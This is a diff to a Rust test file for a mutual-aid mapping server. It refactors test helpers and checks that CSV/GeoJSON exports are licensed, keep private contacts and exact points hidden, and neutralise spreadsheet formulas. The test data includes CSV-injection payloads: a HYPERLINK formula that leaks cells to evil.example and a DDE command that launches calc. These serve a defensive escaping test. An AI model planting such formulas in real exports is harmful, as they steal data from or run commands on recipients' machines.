@@ -12,24 +12,18 @@ use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::sync::Arc;
 
-use axum::body::Body;
-use axum::http::{Request, StatusCode, header};
-use http_body_util::BodyExt;
+use axum::http::{StatusCode, header};
 use serde_json::Value;
 use solidarity_map_core::org::RawLocation;
-use solidarity_map_core::{CategorySlug, OrganizationInput, SiteConfig, Status};
-use solidarity_map_server::http::{AppState, app};
+use solidarity_map_core::{CategorySlug, NewOrganization, OrganizationInput, SiteConfig, Status};
 use solidarity_map_server::open_data::presets::Preset;
 use solidarity_map_server::open_data::{Format, Licence, export, import};
 use solidarity_map_server::seed;
-use solidarity_map_server::store::{SqliteStore, Store};
-use tower::ServiceExt;
+use solidarity_map_server::store::{ImportCounts, Store};
+
+use crate::support::get;
 
 const SECRET: &str = "secret-contact@example.org";
-
-fn bin() -> &'static str {
-    env!("CARGO_BIN_EXE_solidarity-map")
-}
 
 fn repo(path: &str) -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR"))
@@ -62,13 +56,8 @@ async fn filled(store: &dyn Store) {
         languages: vec!["he".into(), "ar".into()],
         tags: vec!["housing".into(), "mutual aid".into()],
         contact_email: Some(SECRET.into()),
-    }
-    .validate()
-    .unwrap();
-    store
-        .insert_organization(&private, Status::Published)
-        .await
-        .unwrap();
+    };
+    let private = published(store, private).await;
     let mut hidden = private.clone();
     hidden.name = solidarity_map_core::OrgName::parse(BTreeMap::from([(
         solidarity_map_core::LangCode::parse("en").unwrap(),
@@ -79,6 +68,16 @@ async fn filled(store: &dyn Store) {
         .insert_organization(&hidden, Status::Pending)
         .await
         .unwrap();
+}
+
+/// Stores `input` published: what is stored.
+async fn published(store: &dyn Store, input: OrganizationInput) -> NewOrganization {
+    let org = input.validate().unwrap();
+    store
+        .insert_organization(&org, Status::Published)
+        .await
+        .unwrap();
+    org
 }
 
 async fn published_count(store: &dyn Store) -> u64 {
@@ -118,6 +117,11 @@ async fn import_text(store: &dyn Store, name: &str, text: &str, options: &import
     )
     .unwrap();
     assert!(checked.problems.is_empty(), "{:?}", checked.problems);
+    publish(store, &checked).await;
+}
+
+/// Stores the rows `checked` holds, published (as `import --publish`).
+async fn publish(store: &dyn Store, checked: &import::Checked) -> ImportCounts {
     store
         .import_external(
             &checked.source,
@@ -126,7 +130,7 @@ async fn import_text(store: &dyn Store, name: &str, text: &str, options: &import
             &|_| {},
         )
         .await
-        .unwrap();
+        .unwrap()
 }
 
 /// The features of a GeoJSON export by id, without `updated_at` (an
@@ -190,13 +194,8 @@ async fn formulas(store: &dyn Store) {
         languages: vec!["es".into()],
         tags: vec!["-minus".into(), "=tag".into(), "plain".into()],
         contact_email: None,
-    }
-    .validate()
-    .unwrap();
-    store
-        .insert_organization(&org, Status::Published)
-        .await
-        .unwrap();
+    };
+    published(store, org).await;
 }
 
 const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
@@ -210,17 +209,19 @@ fn assert_no_formulas(csv: &str) {
         .find(|r| r["name.en"].contains("HYPERLINK"))
         .expect("the formula row");
     assert_eq!(row["name.en"], format!("'{FORMULA}"));
-    assert_eq!(row["name.ar"], "'+1+cmd|' /C calc'!A0");
-    // a quote the export would otherwise take for its own is doubled
-    assert_eq!(row["name.he"], "''=already quoted");
-    assert_eq!(row["description.en"], "'-2+3");
-    assert_eq!(row["description.ar"], "'@SUM(1,1)");
-    assert_eq!(row["city"], "'=1+1");
-    assert_eq!(row["tags"], "'-minus|=tag|plain");
-    assert_eq!(
-        (row["lat"].as_str(), row["lon"].as_str()),
-        ("-34.6", "-58.4")
-    );
+    for (column, quoted) in [
+        ("name.ar", "'+1+cmd|' /C calc'!A0"),
+        // a quote the export would otherwise take for its own is doubled
+        ("name.he", "''=already quoted"),
+        ("description.en", "'-2+3"),
+        ("description.ar", "'@SUM(1,1)"),
+        ("city", "'=1+1"),
+        ("tags", "'-minus|=tag|plain"),
+        ("lat", "-34.6"),
+        ("lon", "-58.4"),
+    ] {
+        assert_eq!(row[column], quoted, "{column}");
+    }
     for r in &rows {
         for (column, cell) in r {
             assert!(
@@ -272,46 +273,21 @@ async fn round_trip_through_three_databases(backend: support::Backend) {
 }
 
 fn site() -> SiteConfig {
-    SiteConfig {
-        tile_url: "https://tile.example.org/{z}/{x}/{y}.png".into(),
-        tile_attribution: "Tiles".into(),
-        tile_max_zoom: None,
-    }
-}
-
-struct Download {
-    status: StatusCode,
-    headers: axum::http::HeaderMap,
-    body: String,
-}
-
-async fn download(app: &axum::Router, uri: &str) -> Download {
-    let res = app
-        .clone()
-        .oneshot(Request::get(uri).body(Body::empty()).unwrap())
-        .await
-        .unwrap();
-    let status = res.status();
-    let headers = res.headers().clone();
-    let body = res.into_body().collect().await.unwrap().to_bytes();
-    Download {
-        status,
-        headers,
-        body: String::from_utf8(body.to_vec()).unwrap(),
-    }
+    support::tiles_from("https://tile.example.org/{z}/{x}/{y}.png")
 }
 
 #[tokio::test]
 async fn http_exports_are_public_licensed_downloads() {
     let db = support::sqlite().await;
-    let store = db.store();
-    filled(store.as_ref()).await;
-    let published = published_count(store.as_ref()).await;
-    let dist = tempfile::tempdir().unwrap();
-    let mut state = AppState::new(store.clone(), site()).await.unwrap();
-    state.licence =
+    filled(db.store().as_ref()).await;
+    let published = published_count(db.store().as_ref()).await;
+    let licence =
         Licence::new("CC-BY-4.0", "https://creativecommons.org/licenses/by/4.0/").unwrap();
-    let app = app(state, dist.path().to_owned());
+    let env = support::setup()
+        .site(site())
+        .start_on(db, |state| state.licence = licence)
+        .await;
+    let app = &env.app;
 
     for (uri, ctype, file) in [
         (
@@ -325,8 +301,9 @@ async fn http_exports_are_public_licensed_downloads() {
             "solidarity-map.csv",
         ),
     ] {
-        let d = download(&app, uri).await;
+        let d = get(app, uri).await;
         assert_eq!(d.status, StatusCode::OK, "{uri}");
+        let body = d.text();
         assert_eq!(d.headers[header::CONTENT_TYPE], ctype, "{uri}");
         assert_eq!(
             d.headers[header::LINK],
@@ -339,17 +316,17 @@ async fn http_exports_are_public_licensed_downloads() {
             "{uri}"
         );
         // nothing private: no contact address, no exact point, no pending entry
-        assert!(!d.body.contains(SECRET), "{uri} leaks the contact address");
-        assert!(!d.body.contains("32.794123"), "{uri} leaks the exact point");
-        assert!(!d.body.contains("34.989567"), "{uri} leaks the exact point");
+        assert!(!body.contains(SECRET), "{uri} leaks the contact address");
+        assert!(!body.contains("32.794123"), "{uri} leaks the exact point");
+        assert!(!body.contains("34.989567"), "{uri} leaks the exact point");
         assert!(
-            !d.body.contains("Still pending"),
+            !body.contains("Still pending"),
             "{uri} shows a pending entry"
         );
-        assert!(d.body.contains("جيران معاً") && d.body.contains("שכנים ביחד"));
+        assert!(body.contains("جيران معاً") && body.contains("שכנים ביחד"));
         // the same entries as the public list, as it shows them
         if uri.ends_with("geojson") {
-            let fc: Value = serde_json::from_str(&d.body).unwrap();
+            let fc: Value = serde_json::from_str(&body).unwrap();
             assert_eq!(fc["type"], "FeatureCollection");
             assert_eq!(fc["license"], "CC-BY-4.0");
             assert_eq!(fc["links"][0]["rel"], "license");
@@ -359,8 +336,7 @@ async fn http_exports_are_public_licensed_downloads() {
             );
             let features = fc["features"].as_array().unwrap();
             assert_eq!(features.len() as u64, published);
-            let list = download(&app, "/api/organizations?limit=10000").await;
-            let list: Value = serde_json::from_str(&list.body).unwrap();
+            let list = get(app, "/api/organizations?limit=10000").await.json();
             let by_id: BTreeMap<&str, &Value> = list["features"]
                 .as_array()
                 .unwrap()
@@ -371,20 +347,22 @@ async fn http_exports_are_public_licensed_downloads() {
                 assert_eq!(Some(&f), by_id.get(f["id"].as_str().unwrap()));
             }
         } else {
-            let rows = rows(&d.body);
+            let rows = rows(&body);
             assert_eq!(rows.len() as u64, published);
             let ours = rows
                 .iter()
                 .find(|r| r["name.en"] == "Neighbours, \"United\"")
                 .unwrap();
-            assert_eq!(ours["name.ar"], "جيران معاً");
-            assert_eq!(ours["description.en"], "Two lines,\nwith a comma.");
-            assert_eq!(ours["tags"], "housing|mutual aid");
-            assert_eq!(ours["languages"], "he|ar");
-            assert_eq!(
-                (ours["lat"].as_str(), ours["lon"].as_str()),
-                ("32.79", "34.99")
-            );
+            for (column, want) in [
+                ("name.ar", "جيران معاً"),
+                ("description.en", "Two lines,\nwith a comma."),
+                ("tags", "housing|mutual aid"),
+                ("languages", "he|ar"),
+                ("lat", "32.79"),
+                ("lon", "34.99"),
+            ] {
+                assert_eq!(ours[column], want, "{column}");
+            }
             assert!(!rows[0].contains_key("contact_email"));
         }
     }
@@ -392,15 +370,22 @@ async fn http_exports_are_public_licensed_downloads() {
 
 /// A SQLite file with the demo data and the private entry, for the
 /// command-line tests.
-async fn sqlite_file(dir: &Path) -> (String, Arc<dyn Store>) {
-    let url = format!("sqlite:{}", dir.join("map.db").display());
-    let store: Arc<dyn Store> = Arc::new(SqliteStore::connect(&url).await.unwrap());
-    filled(store.as_ref()).await;
-    (url, store)
+async fn sqlite_file() -> support::TestDb {
+    let db = support::sqlite().await;
+    filled(db.store().as_ref()).await;
+    db
+}
+
+/// Where to write the partners' sheet (in a folder kept while it is held),
+/// and the database to import it into.
+async fn partners_sheet() -> (tempfile::TempDir, PathBuf, support::TestDb) {
+    let dir = tempfile::tempdir().unwrap();
+    let sheet = dir.path().join("partners.csv");
+    (dir, sheet, sqlite_file().await)
 }
 
 fn run(url: &str, args: &[&str]) -> std::process::Output {
-    Command::new(bin())
+    Command::new(support::bin())
         .args(args)
         .env("DATABASE_URL", url)
         .env("RUST_LOG", "warn")
@@ -413,20 +398,22 @@ fn run(url: &str, args: &[&str]) -> std::process::Output {
 #[tokio::test]
 async fn command_line_export_gives_the_http_bytes() {
     let dir = tempfile::tempdir().unwrap();
-    let (url, store) = sqlite_file(dir.path()).await;
-    let state = AppState::new(store, site()).await.unwrap();
-    let app = app(state, dir.path().to_owned());
+    let env = support::setup()
+        .site(site())
+        .start_on(sqlite_file().await, |_| {})
+        .await;
+    let url = env.db.url();
     for (format, uri) in [
         ("geojson", "/api/export.geojson"),
         ("csv", "/api/export.csv"),
     ] {
-        let http = download(&app, uri).await.body;
-        let stdout = run(&url, &["export", "--format", format]);
+        let http = get(&env.app, uri).await.text();
+        let stdout = run(url, &["export", "--format", format]);
         assert!(stdout.status.success(), "{stdout:?}");
         assert_eq!(String::from_utf8(stdout.stdout).unwrap(), http, "{format}");
         let file = dir.path().join(format!("out.{format}"));
         let to_file = run(
-            &url,
+            url,
             &[
                 "export",
                 "--format",
@@ -469,9 +456,8 @@ const SHEET_HEADER: &str =
 
 #[tokio::test]
 async fn dry_run_reports_every_bad_row_and_changes_nothing() {
-    let dir = tempfile::tempdir().unwrap();
-    let (url, store) = sqlite_file(dir.path()).await;
-    let sheet = dir.path().join("partners.csv");
+    let (_dir, sheet, db) = partners_sheet().await;
+    let (url, store) = (db.url(), db.store());
     std::fs::write(
         &sheet,
         format!(
@@ -490,7 +476,7 @@ async fn dry_run_reports_every_bad_row_and_changes_nothing() {
     let map = SHEET_MAP;
     let mut args = vec!["import", sheet.to_str().unwrap(), "--dry-run"];
     args.extend(map);
-    let out = run(&url, &args);
+    let out = run(url, &args);
     assert!(!out.status.success(), "problems must fail the run");
     let report = String::from_utf8(out.stdout).unwrap();
     let lines: Vec<&str> = report.lines().collect();
@@ -514,15 +500,14 @@ async fn dry_run_reports_every_bad_row_and_changes_nothing() {
     // a real run of the same file refuses it whole
     let mut args = vec!["import", sheet.to_str().unwrap(), "--publish"];
     args.extend(map);
-    assert!(!run(&url, &args).status.success());
+    assert!(!run(url, &args).status.success());
     assert_eq!(store.count_organizations().await.unwrap(), before);
 }
 
 #[tokio::test]
 async fn importing_the_same_file_again_updates() {
-    let dir = tempfile::tempdir().unwrap();
-    let (url, store) = sqlite_file(dir.path()).await;
-    let sheet = dir.path().join("partners.csv");
+    let (_dir, sheet, db) = partners_sheet().await;
+    let (url, store) = (db.url(), db.store());
     let write = |name: &str| {
         std::fs::write(
             &sheet,
@@ -539,11 +524,11 @@ async fn importing_the_same_file_again_updates() {
     args.extend(map);
     let before = store.count_organizations().await.unwrap();
     write("First Name");
-    let out = run(&url, &args);
+    let out = run(url, &args);
     assert!(out.status.success(), "{out:?}");
     assert_eq!(store.count_organizations().await.unwrap(), before + 2);
     write("Better Name");
-    let out = run(&url, &args);
+    let out = run(url, &args);
     assert!(out.status.success(), "{out:?}");
     assert_eq!(store.count_organizations().await.unwrap(), before + 2);
     let csv = exported(&store, Format::Csv).await;
@@ -592,15 +577,7 @@ async fn the_samples_import_with_their_presets() {
             checked.problems
         );
         assert_eq!(checked.rows.len(), count);
-        let done = store
-            .import_external(
-                &checked.source,
-                &checked.rows,
-                Some(Status::Published),
-                &|_| {},
-            )
-            .await
-            .unwrap();
+        let done = publish(store.as_ref(), &checked).await;
         assert_eq!(done.added, count, "{file}");
     }
     let all = exported(&store, Format::GeoJson).await;
